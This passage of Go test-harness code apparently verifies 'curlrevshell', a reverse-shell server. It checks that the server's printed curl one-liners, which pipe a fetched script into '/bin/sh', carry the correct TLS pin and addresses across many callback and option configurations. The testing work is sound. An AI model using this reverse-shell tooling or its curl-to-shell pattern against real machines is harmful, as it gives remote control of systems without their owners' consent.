		extra := o.Args(auth)
		res := curlTry(work, ol, "", connectTo, extra)
		entry := map[string]any{"option": o.Name, "args": extra, "advertised_exit": res.Exit}
		log = append(log, entry)
		switch {
		case res.Exit == 0:
			j.r.Count("client_caps_curl_pinned_ok", 1)
			j.r.Count("client_caps_curl_pinned_ok:"+o.Name, 1)
			j.r.Count("client_caps_curl_pinned_ok_key_type:"+kt, 1)
		case tlsLevel(res.Exit):
			j.r.Violate(j.eng, j.idx, "curl-advertised-pin-rejected:"+o.Name,
				fmt.Sprintf("real curl run as printed plus %v (%s) exits %d: %s; the same command without that restriction connects, and the same restricted curl connects to a plain crypto/tls listener with a %s key", extra, ol.Text, res.Exit, res.Stderr, kt),
				j.witness(map[string]any{"oneliner": ol, "curl": res, "restriction": o.Name, "served_key_type": kt}))
			continue
		default:
			j.r.Inconclusive(fmt.Sprintf("curl %v on %q could not reach the listener (exit %d, %s)", extra, ol.Text, res.Exit, res.Stderr))
			continue
		}
		if m != 0 {
			continue
		}
		alt, ok := alterPin(ol.FP, rng)
		if !ok {
			continue
		}
		res = curlTry(work, ol, alt, connectTo, extra)
		entry["altered_pin"], entry["altered_exit"] = alt, res.Exit
		switch res.Exit {
		case 90:
			j.r.Count("client_caps_curl_altered_rejected", 1)
		case 0:
			j.r.Violate(j.eng, j.idx, "curl-altered-pin-accepted:"+o.Name, fmt.Sprintf("real curl restricted by %v with the pin altered in one character (sha256//%s instead of sha256//%s) connects to %s", extra, alt, ol.FP, ol.Addr), j.witness(map[string]any{"oneliner": ol, "curl": res, "restriction": o.Name}))
		default:
			j.r.Inconclusive(fmt.Sprintf("curl %v with altered pin on %q neither connected nor reported a pin mismatch (exit %d, %s)", extra, ol.Text, res.Exit, res.Stderr))
		}
	}
	return log
}

// capFloors: a run that did not exercise the dimension does not pass.  An
// option this machine's curl cannot do against a plain listener of any key
// type is reported as not explored instead.
func capFloors(r *mon.Run, q func(a, b int64) int64) {
	r.Floor("client_caps_plain_listeners_started", 4)
	r.Floor("client_caps_listeners_judged", q(200, 1600))
	for _, t := range chainKeyTypes {
		r.Floor("client_caps_listeners_judged_key_type:"+t, q(15, 100))
	}
	r.Floor("client_caps_go_handshakes_ok", q(2800, 22000))
	var goOff, curlOff []string
	for _, p := range capProfiles {
		if r.Counter("client_caps_go_client_accepted_by_plain_listener:"+p.Name) == 0 {
			goOff = append(goOff, p.Name)
			continue
		}
		if p.Slow {
			r.Floor("client_caps_go_handshake_ok:"+p.Name, q(20, 150))
			continue
		}
		r.Floor("client_caps_go_handshake_ok:"+p.Name, q(200, 1600))
	}
	for _, o := range capCurlOpts {
		if r.Counter("client_caps_curl_option_usable_here:"+o.Name) == 0 {
			curlOff = append(curlOff, o.Name)
			continue
		}
		if r.Counter("client_caps_curl_option_usable_here:"+o.Name+":ecdsa-p256") == 0 {
			// not with the key type the program makes itself (OpenSSL wants the curve of an ECDSA
			// certificate among the client's groups on TLS 1.2): the harness-made caches only
			r.Floor("client_caps_curl_pinned_ok:"+o.Name, q(2, 12))
			continue
		}
		r.Floor("client_caps_curl_pinned_ok:"+o.Name, q(8, 60))
	}
	// the dimension as a whole must have been explored: the Go side does not depend on the machine
	r.Floor("client_caps_go_client_accepted_by_plain_listener:curves=P-256", 4)
	r.Floor("client_caps_go_client_accepted_by_plain_listener:curves=P-256,P-384,P-521", 4)
	r.Floor("client_caps_go_client_accepted_by_plain_listener:max=TLS1.2", 4)
	if len(curlOff) == len(capCurlOpts) {
		r.Assumptions = append(r.Assumptions, "this machine's curl could not be restricted in any of the ways tried (or plain curl does not work against a plain crypto/tls listener): the real-curl part of the client-capability dimension was NOT explored in this run")
		r.Extra("client_caps_curl_dimension_explored", false)
	} else {
		r.Floor("client_caps_curl_pinned_ok", q(200, 2000))
		r.Floor("client_caps_curl_altered_rejected", q(100, 1000))
	}
	if len(goOff) > 0 {
		r.Extra("client_caps_go_profiles_not_explored", goOff)
	}
	if len(curlOff) > 0 {
		r.Extra("client_caps_curl_options_not_explored_on_this_machine", curlOff)
	}
}

// capRotOf: where a run of the real binary starts in capCurlOpts.
func capRotOf(eng string, i, k int) int {
	off := 0
	switch eng {
	case engBin443:
		off = 5
	case engBinChain:
		off = 11
	}
	return off + 3*i + 7*k
}

// capSlowProfiles: how many profiles of capProfiles are marked Slow.
var capSlowProfiles = func() int {
	n := 0
	for _, p := range capProfiles {
		if p.Slow {
			n++
		}
	}
	return n
}()

package c05

// MANY ADDRESSES: the real binary (pty) and the in-process server with 17 ...
// 200 -callback-address values (names, IPv4, IPv6, with and without ports,
// long names), alone and together with wildcard listen addresses and
// -ipv6-one-liners, with and without -serve-files-from, under the program's
// other documented options (alone and in pairs).  Every one-liner the
// configuration calls for must be there and complete, every fingerprint shown
// must be the pin, the port rule holds; also in the help re-printed after a
// shell died.

import (
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"

	"github.com/magisterquis/curlrevshell/lib/sstls"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

const (
	engBinMany = "binary-many"
	engInMany  = "inproc-many"
)

// the program's other documented options, and the cells of the matrix (none,
// each alone, every pair).  The order is fixed so that the first six cells
// already use every option (quick runs six binary cases).
var manyOpts = []string{"one-shell", "no-timestamps", "log", "ctrl-i", "callback-template"}

var manyCells = [][]string{
	{"one-shell", "no-timestamps"},
	{"log", "ctrl-i"},
	{"callback-template"},
	{},
	{"no-timestamps", "callback-template"},
	{"one-shell"},
	{"log"},
	{"ctrl-i", "callback-template"},
	{"no-timestamps"},
	{"one-shell", "log"},
	{"ctrl-i"},
	{"no-timestamps", "log"},
	{"one-shell", "ctrl-i"},
	{"log", "callback-template"},
	{"no-timestamps", "ctrl-i"},
	{"one-shell", "callback-template"},
}

var manyForms = []string{"v4-port0", "any4-port0", "v6-port0", "any6-port0", "v4-noport", "empty-port0"}

// how many addresses: bands, in turn over the index; the ends of the range
// (17 and 200) are hit exactly once per twelve cases.
var manyBands = [][2]int{{17, 19}, {150, 200}, {20, 30}, {80, 149}, {31, 50}, {51, 79}}

type manyCase struct {
	N     int      `json:"callback_addresses_given"`
	CBs   []string `json:"callback_addresses"`
	Form  string   `json:"listen_form"`
	FDir  string   `json:"serve_files_from"`
	IPv6  bool     `json:"ipv6_one_liners"`
	Opts  []string `json:"other_options"`
	Cache string   `json:"cache"` // off | file | default-path
	Spell int      `json:"flag_spelling"`
	LogBy string   `json:"log_given_by,omitempty"` // flag | environment
}

func (c manyCase) has(o string) bool {
	for _, x := range c.Opts {
		if x == o {
			return true
		}
	}
	return false
}

var spellings = []string{"-flag value", "-flag=value", "--flag value", "--flag=value"}

// flag spells one flag with a value.
func spellFlag(sp int, name, val string) []string {
	switch sp % 4 {
	case 1:
		return []string{"-" + name + "=" + val}
	case 2:
		return []string{"--" + name, val}
	case 3:
		return []string{"--" + name + "=" + val}
	}
	return []string{"-" + name, val}
}

func spellBool(sp int, name string) []string {
	switch sp % 4 {
	case 1:
		return []string{"-" + name + "=true"}
	case 2:
		return []string{"--" + name}
	case 3:
		return []string{"--" + name + "=true"}
	}
	return []string{"-" + name}
}

// longName makes a host name of about total characters (labels of up to 63
// characters), unique through k.
func longName(total, k int, rng *rand.Rand) string {
	const al = "abcdefghijklmnopqrstuvwxyz0123456789-"
	tail := fmt.Sprintf("n%d.example", k)
	var labels []string
	left := total - len(tail) - 1
	for left > 0 {
		n := 1 + rng.IntN(63)
		if n > left {
			n = left
		}
		b := make([]byte, n)
		for x := range b {
			b[x] = al[rng.IntN(len(al))]
			if (x == 0 || x == n-1) && b[x] == '-' {
				b[x] = 'x'
			}
		}
		labels = append(labels, string(b))
		left -= n + 1
	}
	return strings.Join(append(labels, tail), ".")
}

// manyAddrs makes n different callback addresses of all kinds: names, IPv4,
// IPv6 (bare and bracketed), with and without ports, long names, mixed case.
func manyAddrs(n int, rng *rand.Rand) []string {
	out := make([]string, 0, n)
	off := rng.IntN(10)
	port := func() int { return 1 + rng.IntN(65535) }
	for k := 0; k < n; k++ {
		var a string
		switch (k + off) % 10 {
		case 0:
			a = fmt.Sprintf("cb%d.example", k)
		case 1:
			a = fmt.Sprintf("c2-%d.ops.example:%d", k, port())
		case 2:
			a = fmt.Sprintf("198.51.100.%d", k+1)
		case 3:
			a = fmt.Sprintf("203.0.113.%d:%d", k+1, port())
		case 4:
			a = fmt.Sprintf("2001:db8:%x::%x", 1+rng.IntN(0xfffe), k+1)
		case 5:
			a = fmt.Sprintf("[2001:db8::%x:%x]:%d", 1+rng.IntN(0xfffe), k+1, port())
		case 6:
			a = longName(64+rng.IntN(137), k, rng)
		case 7:
			a = fmt.Sprintf("Host-%d.Example", k)
		case 8:
			a = fmt.Sprintf("10.%d.%d.%d", rng.IntN(256), rng.IntN(256), k+1)
		default:
			a = fmt.Sprintf("%s:%d", longName(64+rng.IntN(137), k, rng), port())
		}
		out = append(out, a)
	}
	return out
}

func genManyCase(r *mon.Run, eng string, i, offF int) manyCase {
	rng := r.Rng(eng+"cfg", i)
	band := manyBands[i%len(manyBands)]
	c := manyCase{
		N:     band[0] + rng.IntN(band[1]-band[0]+1),
		Form:  manyForms[(i+offF)%len(manyForms)],
		FDir:  []string{"dir", "off", "file", "off", "dir", "file"}[(i+i/6)%6],
		IPv6:  i%3 != 1,
		Opts:  manyCells[i%len(manyCells)],
		Cache: []string{"off", "file", "default-path"}[i%3],
		Spell: (i + i/4) % 4,
		LogBy: []string{"flag", "environment"}[(i/len(manyCells))%2],
	}
	switch i % 12 {
	case 0:
		c.N = 17
	case 1:
		c.N = 200
	}
	c.CBs = manyAddrs(c.N, rng)
	return c
}

// ---- what the configuration calls for -----------------------------------------------------

type wantAddr struct {
	Host string `json:"host"`
	Port string `json:"port"`
	Why  string `json:"why"`
}

// ifaceAddrs: the addresses of this machine's non-loopback interfaces.
func ifaceAddrs() map[string]bool {
	out := map[string]bool{}
	nifs, err := net.Interfaces()
	if err != nil {
		return out
	}
	for _, nif := range nifs {
		if nif.Flags&net.FlagLoopback != 0 {
			continue
		}
		as, err := nif.Addrs()
		if err != nil {
			continue
		}
		for _, a := range as {
			if p, err := netip.ParsePrefix(a.String()); err == nil {
				out[p.Addr().WithZone("").String()] = true
			}
		}
	}
	return out
}

// wanted: one one-liner for every address the user gave (with the user's port,
// or the bound port when none was given), one for the listener's own address,
// or - on a wildcard listener - one for every address of this machine's
// non-loopback interfaces (IPv6 ones with -ipv6-one-liners only) that was
// there before the start and is still there (ifBefore).
func wanted(cbs []string, listening, bound string, ipv6 bool, ifBefore map[string]bool) []wantAddr {
	var out []wantAddr
	for _, a := range cbs {
		h, p, has := splitAddr(a)
		if !has {
			p = bound
		}
		out = append(out, wantAddr{h, p, "-callback-address " + a})
	}
	lh, _, _ := splitAddr(listening)
	ip, err := netip.ParseAddr(lh)
	if err != nil {
		return out
	}
	if !ip.IsUnspecified() {
		return append(out, wantAddr{lh, bound, "the listen address"})
	}
	now := ifaceAddrs()
	var hs []string
	for h := range ifBefore {
		if now[h] {
			hs = append(hs, h)
		}
	}
	sort.Strings(hs)
	for _, h := range hs {
		if a, err := netip.ParseAddr(h); err == nil && (a.Is4() || ipv6) {
			out = append(out, wantAddr{h, bound, "an address of a non-loopback interface of this machine, the listener is bound to a wildcard address"})
		}
	}
	return out
}

// complete holds the one-liners of one block (site; block number for shell
// blocks) against what the configuration calls for: every wanted address must
// stand in a one-liner that is whole (the served pin, the address with its
// port, and for a shell one-liner the "/c | /bin/sh" end).
func (j *judge) complete(ols []oneLiner, site string, block int, want []wantAddr) {
	have := map[string]bool{}
	n := 0
	for _, ol := range ols {
		if ol.Site != site || (site != siteFile && ol.Block != block) {
			continue
		}
		n++
		whole := validPin(ol.FP) && len(j.served) > 0 && ol.FP == j.served[0]
		if site != siteFile && !strings.HasSuffix(ol.Full, "/c | /bin/sh") {
			whole = false
		}
		if !whole {
			j.r.Count("many_oneliners_not_whole", 1)
			continue
		}
		h, p, printed := splitAddr(ol.Addr)
		if !printed {
			p = "443"
		}
		have[h+"|"+p] = true
	}
	var missing []wantAddr
	for _, w := range want {
		if have[w.Host+"|"+w.Port] {
			j.r.Count("many_wanted_oneliners_found:"+site, 1)
			continue
		}
		missing = append(missing, w)
	}
	j.r.Count("many_blocks_checked_for_completeness:"+site, 1)
	if n >= 18 {
		j.r.Count("many_blocks_of_18_or_more_oneliners:"+site, 1)
	}
	if n >= 100 {
		j.r.Count("many_blocks_of_100_or_more_oneliners:"+site, 1)
	}
	if len(missing) > 0 {
		first := missing
		if len(first) > 5 {
			first = first[:5]
		}
		j.r.Violate(j.eng, j.idx, "oneliner-missing:"+site, fmt.Sprintf("%s (block %d): %d of the %d one-liners the configuration calls for are not shown whole (served pin, address with its port, complete command); %d one-liners are shown in that block; first missing: %+v", site, block, len(missing), len(want), n, first),
			j.witness(map[string]any{"site": site, "block": block, "missing": missing, "oneliners_shown_in_block": n}))
	}
}

// ---- engine "binary-many" ----------------------------------------------------------------------

func binManyRun(r *mon.Run, bin string, fx fixtures, i int, c manyCase) {
	eng := engBinMany
	rng := r.Rng(eng+"run", i)
	caseDir := filepath.Join(r.Work, fmt.Sprintf("%s-%d", eng, i))
	home := filepath.Join(caseDir, "home")
	os.MkdirAll(home, 0o755)
	ifBefore := ifaceAddrs()

	la := listenArg(c.Form, rng)
	groups := [][]string{spellFlag(c.Spell, "listen-address", la)}
	for n, a := range c.CBs {
		groups = append(groups, spellFlag(c.Spell+n, "callback-address", a))
	}
	if d := fx.fdir(c.FDir); d != "" {
		groups = append(groups, spellFlag(c.Spell+1, "serve-files-from", d))
	}
	if c.IPv6 {
		groups = append(groups, spellBool(c.Spell, "ipv6-one-liners"))
	}
	switch c.Cache {
	case "off":
		groups = append(groups, spellFlag(c.Spell, "tls-certificate-cache", ""))
	case "file":
		groups = append(groups, spellFlag(c.Spell, "tls-certificate-cache", filepath.Join(caseDir, "cache", "cert.txtar")))
	}
	var env []string
	logFile := filepath.Join(caseDir, "log.json")
	ctrlI := filepath.Join(caseDir, "ctrl-i.sh")
	for _, o := range c.Opts {
		switch o {
		case "one-shell":
			groups = append(groups, spellBool(c.Spell+1, "one-shell"))
		case "no-timestamps":
			groups = append(groups, spellBool(c.Spell+2, "no-timestamps"))
		case "log":
			if c.LogBy == "environment" {
				env = append(env, "CURLREVSHELL_LOG="+logFile)
			} else {
				groups = append(groups, spellFlag(c.Spell+2, "log", logFile))
			}
		case "ctrl-i":
			os.WriteFile(ctrlI, []byte("echo c05 ctrl-i\n"), 0o644)
			groups = append(groups, spellFlag(c.Spell+3, "ctrl-i", ctrlI))
		case "callback-template":
			groups = append(groups, spellFlag(c.Spell+1, "callback-template", fx.custom))
		}
	}
	// the options in an order of their own per case; the callback addresses keep their relative
	// order among themselves (they come in one run of arguments, somewhere among the others)
	var args []string
	cbAt := rng.IntN(len(groups) - len(c.CBs) + 1)
	var others [][]string
	others = append(others, groups[0])
	others = append(others, groups[1+len(c.CBs):]...)
	rng.Shuffle(len(others), func(a, b int) { others[a], others[b] = others[b], others[a] })
	for n, g := range others {
		if n == cbAt {
			for _, cb := range groups[1 : 1+len(c.CBs)] {
				args = append(args, cb...)
			}
		}
		args = append(args, g...)
	}
	if cbAt >= len(others) {
		for _, cb := range groups[1 : 1+len(c.CBs)] {
			args = append(args, cb...)
		}
	}

	s, err := crs.StartEnv(bin, home, env, args...)
	if err != nil {
		manyInconclusive(r, fmt.Sprintf("%s %d: could not start: %v", eng, i, err))
		return
	}
	defer s.Close()
	j := &judge{r: r, eng: eng, idx: i, keyCap: 5, ctx: map[string]any{"config": c, "args": args, "env": env, "listening_on": s.Addr}}
	term := func() string { return s.P.Clean() }

	// The help is sent before the listener serves: whatever a request makes the program print
	// comes after it.  mark asks for a script under a name of its own and waits for the notice
	// about it; the text before that notice is complete.
	hloc, ok := s.Wait(`To get a shell:`, 0, crs.Bound)
	if !ok {
		manyInconclusive(r, fmt.Sprintf("%s %d: start-up help did not appear: %q", eng, i, term()))
		return
	}
	s.Wait(`curl `, hloc[1], crs.Bound)

	_, linePort, _ := net.SplitHostPort(s.Addr)
	bound := linePort
	if ports, err := listenPorts(s.P.Pid()); err == nil && len(ports) > 0 {
		same := true
		for _, p := range ports {
			same = same && p == ports[0]
		}
		if same {
			bound = ports[0]
			r.Count("bound_port_from_proc", 1)
		}
	}
	j.ctx["bound_port"] = bound
	hosts, covers, err := dialTargets(s.Addr, bound)
	if err != nil {
		manyInconclusive(r, fmt.Sprintf("%s %d: cannot use address %q: %v", eng, i, s.Addr, err))
		return
	}
	mainHost := ""
	for _, h := range hosts {
		if _, err := j.handshake(net.JoinHostPort(h, bound), ""); err == nil && mainHost == "" {
			mainHost = h
		}
	}
	if mainHost == "" {
		manyInconclusive(r, fmt.Sprintf("%s %d: no handshake with the listener at %v port %s", eng, i, hosts, bound))
		return
	}
	target := net.JoinHostPort(mainHost, bound)
	j.handshake(target, "cb.example")
	custom := c.has("callback-template")
	mark := func(tag string, from int) (int, bool) {
		name := fmt.Sprintf("c05mark-%s-%d.example", tag, i)
		res, err := hk.Get(target, "", name+":"+bound, "/c")
		if err != nil || res == nil || res.Status != 200 {
			return 0, false
		}
		j.script(string(res.Body), custom, "script host="+name)
		loc, ok := s.Wait(`[^\r\n]*Sent script: ID:\S+ URL:`+regexp.QuoteMeta(name), from, crs.Bound)
		if !ok {
			return 0, false
		}
		return loc[0], true
	}
	end, ok := mark("a", hloc[1])
	if !ok {
		manyInconclusive(r, fmt.Sprintf("%s %d: no notice about the marker request after the start-up help: %q", eng, i, tail(term(), 600)))
		return
	}
	r.Count("many_binary_runs", 1)
	r.Count("many_runs", 1)
	r.Eval(1)
	countManyConfig(r, c, true)

	want := wanted(c.CBs, s.Addr, bound, c.IPv6, ifBefore)
	pr := newPortRule(c.CBs, bound, s.Addr)
	sh := parseOperatorText(term()[:end], 0)
	for _, f := range sh.FPs {
		j.fp(f.Site, f.FP, strings.TrimSpace(f.Line))
	}
	j.ports(sh.OneLiners, pr)
	j.complete(sh.OneLiners, siteShell, 1, want)
	if c.FDir != "off" {
		j.complete(sh.OneLiners, siteFile, 0, want)
	}
	r.Distinct(fmt.Sprintf("%s|%s|%v|%s|%v|%v|%s|%s", eng, c.Form, c.CBs, c.FDir, c.IPv6, c.Opts, c.Cache, j.served[0]))

	// real curl on a few of the printed commands: the first, the last, the listener's own, one
	// from the middle, one file one-liner
	var pick []oneLiner
	usable := func(ol oneLiner) bool {
		return isASCII(ol.Addr) && !strings.Contains(ol.Addr, "%") && len(ol.Addr) <= 100
	}
	var shellOLs, fileOLs []oneLiner
	for _, ol := range sh.OneLiners {
		switch {
		case !usable(ol) || !validPin(ol.FP):
		case ol.Site == siteShell:
			shellOLs = append(shellOLs, ol)
		case ol.Site == siteFile:
			fileOLs = append(fileOLs, ol)
		}
	}
	if n := len(shellOLs); n > 0 {
		pick = append(pick, shellOLs[0], shellOLs[n-1], shellOLs[rng.IntN(n)])
		for _, ol := range shellOLs {
			if h, p, _ := splitAddr(ol.Addr); p == bound && (h == mainHost || pr.local[h]) {
				pick = append(pick, ol)
				break
			}
		}
	}
	if n := len(fileOLs); n > 0 {
		pick = append(pick, fileOLs[rng.IntN(n)])
	}
	curls := j.curlChecks(r.Work, pick, mainHost, bound, covers, rng)
	r.Count("many_oneliners_run_with_curl", int64(len(curls)))

	// a shell comes and goes
	from := s.P.CleanLen()
	id := fmt.Sprintf("c05m%x", rng.Uint32())
	in, err1 := crs.OpenIn(target, "/i/"+id)
	o, err2 := crs.OpenOut(target, "/o/"+id)
	if err1 != nil || err2 != nil {
		manyInconclusive(r, fmt.Sprintf("%s %d: fake shell could not connect: %v %v", eng, i, err1, err2))
		return
	}
	_, okr := s.Wait(`Shell is ready`, from, crs.Bound)
	in.Close()
	o.Close()
	var gone []int
	okg := false
	if okr {
		gone, okg = s.Wait(`Shell is gone`, from, crs.Bound)
	}
	if !okr || !okg {
		manyInconclusive(r, fmt.Sprintf("%s %d: shell cycle did not complete (ready=%v gone=%v)", eng, i, okr, okg))
		return
	}
	if c.has("one-shell") {
		// the listener is closed; nothing is printed again, and nothing the program says from here
		// to its end may carry another fingerprint (how and when it ends is not this property's business)
		r.Count("many_one_shell_runs", 1)
		s.Wait(`Shell is gone[^\r\n]*\r?\n`, from, crs.Bound)
		s.Quit()
		for _, f := range parseOperatorText(term()[end:], 0).FPs {
			j.fp(siteOther, f.FP, strings.TrimSpace(f.Line))
		}
	} else {
		h2, ok := s.Wait(`To get a shell:`, gone[1], crs.Bound)
		if !ok {
			manyInconclusive(r, fmt.Sprintf("%s %d: help not re-printed after the shell died: %q", eng, i, tail(term(), 600)))
			return
		}
		s.Wait(`curl `, h2[1], crs.Bound)
		end2, ok := mark("b", h2[1])
		if !ok {
			manyInconclusive(r, fmt.Sprintf("%s %d: no notice about the marker request after the re-printed help: %q", eng, i, tail(term(), 600)))
			return
		}
		// notices between the start-up help and the re-printed one
		for _, f := range parseOperatorText(term()[end:h2[0]], 0).FPs {
			j.fp(siteOther, f.FP, strings.TrimSpace(f.Line))
		}
		sh2 := parseOperatorText(term()[h2[0]:end2], 1)
		for _, f := range sh2.FPs {
			j.fp(f.Site, f.FP, strings.TrimSpace(f.Line))
		}
		j.ports(sh2.OneLiners, pr)
		j.complete(sh2.OneLiners, siteReprint, 2, want)
		r.Count("reprints_checked", 1)
		r.Count("many_reprints_checked", 1)
		st, sig, okq := s.Quit()
		if !okq || st != 0 || sig != "" {
			manyInconclusive(r, fmt.Sprintf("%s %d: Ctrl+D ended with status %d signal %q exited=%v", eng, i, st, sig, okq))
		}
		for _, f := range parseOperatorText(term()[end2:], 0).FPs {
			j.fp(siteOther, f.FP, strings.TrimSpace(f.Line))
		}
	}
	if c.Cache == "default-path" {
		if _, err := os.Stat(filepath.Join(home, ".cache", sstls.CertCacheDir, sstls.CertCacheFile)); err == nil {
			r.Count("many_runs_with_cache_at_default_path", 1)
		}
	}
	r.Sample(eng, map[string]any{"index": i, "config": c, "args": args, "env": env, "listening_on": s.Addr, "bound_port": bound, "served_pins": j.served,
		"oneliners_wanted_per_block": len(want), "oneliners_shown_at_start_up": len(sh.OneLiners), "curl": curls})
}

func manyInconclusive(r *mon.Run, what string) {
	r.Logf("inconclusive: %s", what)
	r.Inconclusive(what)
}

func tail(s string, n int) string {
	if len(s) > n {
		return s[len(s)-n:]
	}
	return s
}

func countManyConfig(r *mon.Run, c manyCase, binary bool) {
	r.Count("many_listen_form:"+c.Form, 1)
	switch c.Form {
	case "any4-port0", "any6-port0", "empty-port0":
		r.Count("many_runs_on_wildcard_listener", 1)
		if c.IPv6 {
			r.Count("many_runs_on_wildcard_listener_with_ipv6_one_liners", 1)
		}
	}
	if c.IPv6 {
		r.Count("many_runs_with_ipv6_one_liners", 1)
	}
	r.Count("many_files:"+c.FDir, 1)
	r.Count("many_callback_addresses_given", int64(c.N))
	switch {
	case c.N <= 19:
		r.Count("many_runs_with_17_to_19_addresses", 1)
	case c.N >= 150:
		r.Count("many_runs_with_150_to_200_addresses", 1)
	}
	if !binary {
		return
	}
	r.Count("many_flag_spelling:"+spellings[c.Spell%4], 1)
	r.Count("many_cache:"+c.Cache, 1)
	switch len(c.Opts) {
	case 0:
		r.Count("many_option_cell:none", 1)
	case 1:
		r.Count("many_option_alone:"+c.Opts[0], 1)
		r.Count("many_options_alone", 1)
	default:
		r.Count("many_option_pair:"+strings.Join(c.Opts, "+"), 1)
		r.Count("many_option_pairs", 1)
	}
	for _, o := range c.Opts {
		r.Count("many_option:"+o, 1)
		if o == "log" {
			r.Count("many_log_given_by:"+c.LogBy, 1)
		}
	}
}

// ---- engine "inproc-many" ----------------------------------------------------------------------

func inManyRun(r *mon.Run, fx fixtures, i int, c manyCase) {
	eng := engInMany
	rng := r.Rng(eng+"run", i)
	ifBefore := ifaceAddrs()
	oneShell, custom := c.has("one-shell"), c.has("callback-template")
	cfg := hk.Config{Addr: listenArg(c.Form, rng), FDir: fx.fdir(c.FDir), CBAddrs: c.CBs, PrintIPv6: c.IPv6, OneShell: oneShell, OchCap: 4096}
	if custom {
		cfg.TmplF = fx.custom
	}
	s, err := hk.Start(cfg)
	if err != nil {
		manyInconclusive(r, fmt.Sprintf("%s %d: could not start: %v", eng, i, err))
		return
	}
	defer s.Stop()
	j := &judge{r: r, eng: eng, idx: i, keyCap: 5, ctx: map[string]any{"config": c, "listening_on": s.Addr}}
	isHead := func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "To get a shell:") }
	if _, ok := s.Log.Wait(0, hk.Bound, isHead); !ok {
		manyInconclusive(r, fmt.Sprintf("%s %d: start-up help did not appear", eng, i))
		return
	}
	_, bound, _ := net.SplitHostPort(s.Addr)
	hosts, _, err := dialTargets(s.Addr, bound)
	if err != nil {
		manyInconclusive(r, fmt.Sprintf("%s %d: cannot use address %q: %v", eng, i, s.Addr, err))
		return
	}
	mainHost := ""
	for _, h := range hosts {
		if _, err := j.handshake(net.JoinHostPort(h, bound), ""); err == nil && mainHost == "" {
			mainHost = h
		}
	}
	if mainHost == "" {
		manyInconclusive(r, fmt.Sprintf("%s %d: no handshake with the listener at %s", eng, i, s.Addr))
		return
	}
	target := net.JoinHostPort(mainHost, bound)
	j.handshake(target, "some.host.example")
	// every notice sent before the marker precedes it
	m1, ok := s.Mark(fmt.Sprintf("C05-MANY-%d-a", i))
	if !ok {
		manyInconclusive(r, fmt.Sprintf("%s %d: marker did not come through", eng, i))
		return
	}
	r.Count("many_inproc_servers", 1)
	r.Count("many_runs", 1)
	r.Eval(1)
	countManyConfig(r, c, false)
	text := func(from, to int) string {
		var sb strings.Builder
		for _, e := range s.Log.Snapshot()[from:to] {
			if e.Kind == "op" {
				sb.WriteString(e.S)
				sb.WriteByte('\n')
			}
		}
		return sb.String()
	}
	want := wanted(c.CBs, s.Addr, bound, c.IPv6, ifBefore)
	pr := newPortRule(c.CBs, bound, s.Addr)
	sh := parseOperatorText(text(0, m1), 0)
	for _, f := range sh.FPs {
		j.fp(f.Site, f.FP, strings.TrimSpace(f.Line))
	}
	j.ports(sh.OneLiners, pr)
	j.complete(sh.OneLiners, siteShell, 1, want)
	if c.FDir != "off" {
		j.complete(sh.OneLiners, siteFile, 0, want)
	}
	r.Distinct(fmt.Sprintf("%s|%s|%v|%s|%v|%v|%s", eng, c.Form, c.CBs, c.FDir, c.IPv6, c.Opts, j.served[0]))
	j.scriptsPick(target, target, custom, rng, 1, []int{0})

	from := len(s.Log.Snapshot())
	id := fmt.Sprintf("c05n%x", rng.Uint32())
	in, err1 := crs.OpenIn(target, "/i/"+id)
	o, err2 := crs.OpenOut(target, "/o/"+id)
	if err1 != nil || err2 != nil {
		manyInconclusive(r, fmt.Sprintf("%s %d: fake shell could not connect: %v %v", eng, i, err1, err2))
		return
	}
	_, okr := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "Shell is ready") })
	in.Close()
	o.Close()
	g, okg := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "Shell is gone") })
	if !okr || !okg {
		manyInconclusive(r, fmt.Sprintf("%s %d: shell cycle did not complete", eng, i))
		return
	}
	if oneShell {
		r.Count("many_one_shell_runs", 1)
		for _, f := range parseOperatorText(text(m1, len(s.Log.Snapshot())), 0).FPs {
			j.fp(siteOther, f.FP, strings.TrimSpace(f.Line))
		}
	} else {
		hd, ok1 := s.Log.Wait(g.Seq, hk.Bound, isHead)
		_, ok2 := s.Log.Wait(hd.Seq, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, "curl ") })
		m2, ok3 := s.Mark(fmt.Sprintf("C05-MANY-%d-b", i))
		if !ok1 || !ok2 || !ok3 {
			manyInconclusive(r, fmt.Sprintf("%s %d: help not re-printed after the shell died", eng, i))
			return
		}
		sh2 := parseOperatorText(text(m1, m2), 1)
		for _, f := range sh2.FPs {
			j.fp(f.Site, f.FP, strings.TrimSpace(f.Line))
		}
		j.ports(sh2.OneLiners, pr)
		j.complete(sh2.OneLiners, siteReprint, 2, want)
		r.Count("reprints_checked", 1)
		r.Count("many_reprints_checked", 1)
	}
	r.Sample(eng, map[string]any{"index": i, "config": c, "listening_on": s.Addr, "served_pins": j.served, "oneliners_wanted_per_block": len(want), "oneliners_shown_at_start_up": len(sh.OneLiners)})
}

// ---- running and floors ---------------------------------------------------------------------------

// runMany runs both engines; it is started next to the other engines (its
// cases are few and cheap) and waited for at the end.
func runMany(r *mon.Run, fx fixtures) *sync.WaitGroup {
	var wg sync.WaitGroup
	offF := r.Rng("manyplan", 0).IntN(len(manyForms))
	if r.WantEngine(engBinMany) {
		wg.Add(1)
		go func() {
			defer wg.Done()
			bin, err := crs.Build(r.Work, "")
			if err != nil {
				r.Inconclusive("cannot build the binary: " + err.Error())
				return
			}
			mon.Parallel(r.N(6, 32), 3, func(i int) {
				if r.Want(engBinMany, i) {
					binManyRun(r, bin, fx, i, genManyCase(r, engBinMany, i, offF))
				}
			})
			r.Logf("binary-many engine done: %d runs", r.Counter("many_binary_runs"))
		}()
	}
	if r.WantEngine(engInMany) {
		wg.Add(1)
		go func() {
			defer wg.Done()
			mon.Parallel(r.N(6, 48), 2, func(i int) {
				if r.Want(engInMany, i) {
					inManyRun(r, fx, i, genManyCase(r, engInMany, i, offF+3))
				}
			})
		}()
	}
	return &wg
}

func manyFloors(r *mon.Run, q func(a, b int64) int64) {
